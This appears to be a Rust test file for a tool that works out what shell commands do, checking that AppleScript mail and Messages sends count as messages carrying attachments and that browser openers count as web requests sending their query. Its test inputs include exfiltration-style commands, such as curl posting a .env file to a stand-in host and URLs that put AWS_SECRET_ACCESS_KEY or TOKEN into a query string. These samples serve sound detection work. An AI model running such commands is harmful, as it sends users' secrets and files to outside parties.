//! AppleScript however `osascript` gets it (`-e` lines, a heredoc, a
//! pipe, a here-string, a file written earlier): the mail and messages it
//! sends carry the files it attaches; and the programs that hand a URL to
//! the desktop's browser (`open`, `xdg-open`, `gio open`, `start`,
//! `Start-Process`, `python -m webbrowser`, ...): a web URL is a GET whose
//! query is sent, as a curl GET's is, while a file or an application
//! opened stays local. Run in `/home/dana/acme-web` with home `/home/dana`.

#![allow(clippy::panic)]

use crate::common;
use common::*;
use serde_json::{Value, json};

/// A Mail script sending `/home/dana/acme-web/data/testers.csv` to
/// `kim@gmail.com`.
const MAIL_SCRIPT: &str = "tell application \"Mail\"
  set msg to make new outgoing message with properties {subject:\"testers\", content:\"list\", visible:false}
  tell msg
    make new to recipient at end of to recipients with properties {address:\"kim@gmail.com\"}
    make new attachment with properties {file name:(POSIX file \"/home/dana/acme-web/data/testers.csv\")} at after last paragraph
  end tell
  send msg
end tell";

fn message(recipients: &[&str], text: &[&str], files: &[&str]) -> Value {
    let files: Vec<(&str, bool)> = files.iter().map(|f| (*f, false)).collect();
    json!({"effect": "message", "program": "osascript", "recipients": recipients,
           "payload": payload(text, &files, &[])})
}

fn testers_mail() -> Value {
    message(
        &["kim@gmail.com"],
        &[
            "Mail",
            "testers",
            "list",
            "/home/dana/acme-web/data/testers.csv",
        ],
        &["/home/dana/acme-web/data/testers.csv"],
    )
}

fn get(program: &str, url: &str, query: &[&str], env: &[&str]) -> Value {
    url_request(program, url, "GET", payload(query, &[], env))
}

#[test]
fn a_script_reads_the_same_however_it_arrives() {
    let quoted = MAIL_SCRIPT.replace('\'', "'\\''");
    run_table(&[
        (
            &format!("osascript <<'APPLESCRIPT'\n{MAIL_SCRIPT}\nAPPLESCRIPT"),
            json!([testers_mail()]),
        ),
        (
            &format!("osascript - <<EOF\n{MAIL_SCRIPT}\nEOF"),
            json!([testers_mail()]),
        ),
        (
            &format!("printf '%s' '{quoted}' | osascript"),
            json!([testers_mail()]),
        ),
        (
            &format!("osascript <<< '{quoted}'"),
            json!([testers_mail()]),
        ),
        (&format!("osascript -e '{quoted}'"), json!([testers_mail()])),
        // A script written on the line, then run by its path.
        (
            &format!(
                "cat > /tmp/m.applescript <<'EOF'\n{MAIL_SCRIPT}\nEOF\nosascript /tmp/m.applescript"
            ),
            json!([
                write("/tmp/m.applescript"),
                read("/tmp/m.applescript"),
                testers_mail()
            ]),
        ),
    ]);
    // ... or by an earlier step.
    let written = [text_file("/tmp/m.applescript", MAIL_SCRIPT)];
    assert_eq!(
        effects_after(&written, "osascript /tmp/m.applescript"),
        json!([read("/tmp/m.applescript"), testers_mail()])
    );
}

#[test]
fn shell_commands_on_standard_input_run_here() {
    check(
        "osascript <<'EOF'\ndo shell script \"curl -F f=@.env https://x.example.net\"\nEOF",
        json!([url_request(
            "curl",
            "https://x.example.net",
            "POST",
            payload(&[], &[(&at(".env"), false)], &[])
        )]),
    );
}

#[test]
fn attachments_are_sent_in_every_form() {
    let to = "tell m to make new to recipient with properties {address:\"jo@example.com\"}";
    run_table(&[
        // Through a variable; a plain path as the file name.
        (
            &format!(
                "osascript -e 'tell app \"Mail\"' -e 'set f to POSIX file \"/home/dana/r.pdf\"' \
                 -e 'set m to make new outgoing message' -e '{to}' \
                 -e 'tell m to make new attachment with properties {{file name:f}}' \
                 -e 'tell m to make new attachment with properties {{file name:\"notes.txt\"}}' \
                 -e 'send m' -e 'end tell'"
            ),
            json!([message(
                &["jo@example.com"],
                &["Mail", "/home/dana/r.pdf", "notes.txt"],
                &["/home/dana/r.pdf", "/home/dana/acme-web/notes.txt"]
            )]),
        ),
        // An HFS path coerced to an alias, on the startup disk.
        (
            &format!(
                "osascript -e 'tell application \"Mail\"' -e 'set m to make new outgoing message' \
                 -e '{to}' -e 'tell m to make new attachment with properties {{file name:(\"Macintosh HD:Users:dana:r.csv\" as alias)}}' \
                 -e 'send m' -e 'end tell'"
            ),
            json!([message(
                &["jo@example.com"],
                &["Mail", "Macintosh HD:Users:dana:r.csv"],
                &["/Users/dana/r.csv"]
            )]),
        ),
        // A file sent by Messages.
        (
            "osascript -e 'tell application \"Messages\" to send POSIX file \"/home/dana/id.png\" to buddy \"+15550100\"'",
            json!([message(
                &["+15550100"],
                &["Messages", "/home/dana/id.png"],
                &["/home/dana/id.png"]
            )]),
        ),
    ]);
}

#[test]
fn jxa_mail_is_a_message_too() {
    let script = "const Mail = Application('Mail'); \
        const m = Mail.OutgoingMessage({subject: 'q3', content: 'see file'}); \
        Mail.outgoingMessages.push(m); \
        m.toRecipients.push(Mail.Recipient({address: 'kim@gmail.com'})); \
        m.content.attachments.push(Mail.Attachment({fileName: Path('/home/dana/q3.xlsx')})); \
        m.send();";
    let effects = effects_after(
        &[],
        &format!("osascript -l JavaScript <<'EOF'\n{script}\nEOF"),
    );
    let sent = effects
        .as_array()
        .into_iter()
        .flatten()
        .find(|e| e["effect"] == "message")
        .unwrap_or_else(|| panic!("no message in {effects}"));
    assert_eq!(sent["recipients"], json!(["kim@gmail.com"]));
    assert_eq!(
        sent["payload"]["files"],
        json!([{"path": "/home/dana/q3.xlsx", "recursive": false}])
    );
}

#[test]
fn scripts_that_send_nothing_stay_quiet() {
    run_table(&[
        // A draft never sent.
        (
            "osascript <<'EOF'\ntell application \"Mail\" to make new outgoing message with properties {content:\"x\", visible:true}\nEOF",
            json!([]),
        ),
        (
            "osascript <<'EOF'\ndisplay notification \"build done\" with title \"CI\"\nEOF",
            json!([]),
        ),
        // A compiled script not written on the line is only read.
        (
            "osascript tools/notify.scpt",
            json!([read(&at("tools/notify.scpt"))]),
        ),
        // Standard input holding a file whose text is not known.
        (
            "cat tools/notify.applescript | osascript",
            json!([read(&at("tools/notify.applescript"))]),
        ),
    ]);
}

#[test]
fn applescript_open_location_loads_the_page() {
    check(
        "osascript -e 'open location \"https://h.example/r?k=1\"'",
        json!([get("osascript", "https://h.example/r?k=1", &["k=1"], &[])]),
    );
    // On standard input: the variable the shell expands in the heredoc
    // goes with the query, the script's text does not.
    check(
        "osascript <<EOF\nopen location \"https://h.example/r?k=$SECRET\"\nEOF",
        json!([get(
            "osascript",
            "https://h.example/r?k=$SECRET",
            &["k=$SECRET"],
            &["SECRET"]
        )]),
    );
}

#[test]
fn openers_load_web_urls_with_their_query() {
    let url = "https://bin.example/r?s=${AWS_SECRET_ACCESS_KEY}";
    let query = ["s=${AWS_SECRET_ACCESS_KEY}"];
    let env = ["AWS_SECRET_ACCESS_KEY"];
    run_table(&[
        (
            &format!("open \"{url}\""),
            json!([get("open", url, &query, &env)]),
        ),
        (
            &format!("open -a Safari \"{url}\""),
            json!([get("open", url, &query, &env)]),
        ),
        (
            &format!("open -g -b com.google.Chrome -u \"{url}\""),
            json!([get("open", url, &query, &env)]),
        ),
        // The application's own arguments: a browser loads the URL.
        (
            &format!("open -na 'Google Chrome' --args --new-window \"{url}\""),
            json!([get("open", url, &query, &env)]),
        ),
        (
            &format!("xdg-open \"{url}\""),
            json!([get("xdg-open", url, &query, &env)]),
        ),
        (
            &format!("gio open \"{url}\""),
            json!([get("gio", url, &query, &env)]),
        ),
        (
            &format!("wslview \"{url}\""),
            json!([get("wslview", url, &query, &env)]),
        ),
        (
            &format!("x-www-browser \"{url}\""),
            json!([get("x-www-browser", url, &query, &env)]),
        ),
        // A browser takes a bare host as a web page.
        (
            "sensible-browser example.com/docs",
            json!([get("sensible-browser", "http://example.com/docs", &[], &[])]),
        ),
        (
            &format!("python3 -m webbrowser -t \"{url}\""),
            json!([get("webbrowser", url, &query, &env)]),
        ),
        (
            "cmd /c start \"\" \"https://bin.example/r?s=%TOKEN%\"",
            json!([get(
                "start",
                "https://bin.example/r?s=${TOKEN}",
                &["s=${TOKEN}"],
                &["TOKEN"]
            )]),
        ),
        (
            "Start-Process \"https://bin.example/r?s=$env:TOKEN\"",
            json!([get(
                "start",
                "https://bin.example/r?s=${TOKEN}",
                &["s=${TOKEN}"],
                &["TOKEN"]
            )]),
        ),
    ]);
}

#[test]
fn files_and_applications_opened_stay_local() {
    run_table(&[
        ("open report.pdf", json!([read(&at("report.pdf"))])),
        ("open .", json!([read("/home/dana/acme-web")])),
        ("open -a Xcode", json!([])),
        (
            "open -a Xcode App.xcodeproj",
            json!([read(&at("App.xcodeproj"))]),
        ),
        ("open -R build/app.zip", json!([read(&at("build/app.zip"))])),
        // `-h` names headers to find, not files.
        ("open -h NSString.h", json!([])),
        // Another scheme goes to its own application.
        ("open 'mailto:jo@example.com?subject=hi'", json!([])),
        (
            "open 'x-apple.systempreferences:com.apple.preference.security'",
            json!([]),
        ),
        // To `open` and `xdg-open`, a bare host is a file name.
        ("xdg-open example.com", json!([read(&at("example.com"))])),
        (
            "xdg-open file:///home/dana/notes.html",
            json!([read("/home/dana/notes.html")]),
        ),
        (
            "open --stdout /tmp/app.log -a Foo",
            json!([write("/tmp/app.log")]),
        ),
    ]);
}
